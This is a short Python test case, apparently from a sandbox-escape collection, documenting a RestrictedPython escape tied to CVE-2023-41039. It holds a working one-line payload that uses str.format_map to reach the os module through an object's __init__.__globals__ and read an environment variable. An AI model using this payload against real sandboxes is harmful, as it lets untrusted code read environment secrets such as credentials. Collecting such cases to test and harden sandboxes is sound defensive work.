"""str.format_map() reads attributes, of modules in reach too.

Known from: CVE-2023-41039 of RestrictedPython, which named format_map() as well
Effect: environment
Host: import os
Host: class Host:
Host:     def __init__(self): pass
Host: host = Host()
Given: host
Jail: no builtins
"""
answer = "{host.__init__.__globals__[os].environ[LOCKDOWN_VARIABLE]}".format_map({"host": host})
